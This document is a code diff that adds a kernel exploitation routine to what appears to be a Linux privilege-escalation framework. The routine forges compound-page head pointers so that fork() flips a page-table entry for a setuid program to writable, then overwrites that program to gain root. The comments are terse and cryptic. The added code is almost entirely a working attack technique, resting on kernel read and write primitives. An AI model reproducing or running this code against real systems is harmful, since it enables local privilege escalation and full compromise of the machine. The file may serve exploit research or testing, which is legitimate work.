@@ -4,7 +4,9 @@
  * counters are found by pointers in ordinary memory.
  */
 #include <errno.h>
+#include <signal.h>
 #include <sys/mman.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include "attack.h"
@@ -253,4 +255,92 @@ enum outcome memcg_statistics(void)
 	outcome = patch_text_in_user_mapping((char *)page + text_phys() % PAGE_SIZE);
 	unmap_zero_page(page, phys);
 	return outcome;
+}
+
+/*
+ * fork() counts each page that it copies in what its struct page calls the head:
+ * one more user, and one more mapping in the word before that. The words are
+ * the lower half of an entry that maps a file for reading, and the upper half
+ * of one that belongs to nobody. Two pages make the entry writable.
+ */
+#define FORK_PART	0x5d
+#define COUNTED_PAGES	2	/* which is the bit to be set */
+#define MANY		1000
+
+struct counted {
+	uint64_t page[COUNTED_PAGES], word[COUNTED_PAGES];
+};
+
+/* Locked pages are on no list, whose pointer would be where the head is. */
+static bool lock_pages(struct counted *counted)
+{
+	char *at = mmap(NULL, COUNTED_PAGES * PAGE_SIZE, PROT_READ | PROT_WRITE,
+			MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	struct slot slot;
+	int i;
+
+	if (at == MAP_FAILED || mlock(at, COUNTED_PAGES * PAGE_SIZE))
+		return false;
+	for (i = 0; i < COUNTED_PAGES; i++) {
+		if (kwalk((uint64_t)at + i * PAGE_SIZE, LEAF, 0, &slot))
+			return false;
+		counted->page[i] = slot.page;
+		counted->word[i] = kread64(slot.page + PAGE_COMPOUND_HEAD);
+	}
+	return true;
+}
+
+/* Or, without a head, as they were. */
+static int set_head(const struct counted *counted, uint64_t head)
+{
+	int i, err = 0;
+
+	for (i = 0; i < COUNTED_PAGES; i++)
+		err = kwrite64(counted->page[i] + PAGE_COMPOUND_HEAD,
+			       head ? head + 1 : counted->word[i]) ?: err;
+	return err;
+}
+
+/* What the child gives back as it dies. */
+static bool make_head(struct kernel_page *head)
+{
+	int many = MANY;
+
+	return kernel_page(head) &&
+	       !kwrite(head->addr + PAGE_MAPCOUNT, &many, sizeof(many)) &&
+	       !kwrite(head->addr + PAGE_REFCOUNT, &many, sizeof(many));
+}
+
+static int fork_with_head(const struct counted *counted, uint64_t head, uint64_t other)
+{
+	int err = set_head(counted, head);
+	pid_t pid = err ? -1 : fork();
+
+	if (!pid)
+		for (;;)
+			pause();
+	err = set_head(counted, other) ?: err;
+	if (pid > 0) {
+		kill(pid, SIGKILL);
+		waitpid(pid, NULL, 0);
+	}
+	return set_head(counted, 0) ?: err;
+}
+
+enum outcome fork_compound_head(void)
+{
+	volatile char *file = setuid_program_map(user_room(FORK_PART) + PMD_SIZE / 2);
+	struct kernel_page other;
+	struct counted counted;
+	struct slot slot;
+	int err;
+
+	if (!file || kwalk((uint64_t)file, LEVEL_PTE, 0, &slot))
+		return broken("no entry that maps the program");
+	if (!lock_pages(&counted) || !make_head(&other))
+		return broken("no pages to be counted");
+	err = fork_with_head(&counted, slot.slot - PAGE_REFCOUNT, other.addr);
+	if (!pte_is_writable(kread64(slot.slot)))
+		return lost("the stores gave %d, and the entry is read-only", err);
+	return setuid_program_overwrite(file);
 }
